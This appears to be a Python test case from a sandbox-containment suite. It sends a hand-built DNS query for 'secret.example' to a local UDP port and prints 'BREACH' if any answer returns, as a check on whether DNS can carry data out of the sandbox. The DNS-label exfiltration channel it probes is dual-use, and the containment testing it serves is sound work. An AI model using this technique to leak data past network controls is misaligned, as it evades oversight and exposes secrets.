# why: A name server that can be asked is a channel to the outside, one label at a time.
# expect: status=finished
# stdout: contained
# outside: BREACH
import json
import socket
from pathlib import Path

world = json.loads(Path("world.json").read_text())
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06secret\x07example\x00" + b"\x00\x01\x00\x01"
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.5)
        sender.connect(("127.0.0.1", world["udp"]))
        sender.send(query)
        print("BREACH", sender.recv(200))
except OSError:
    pass
print("contained")
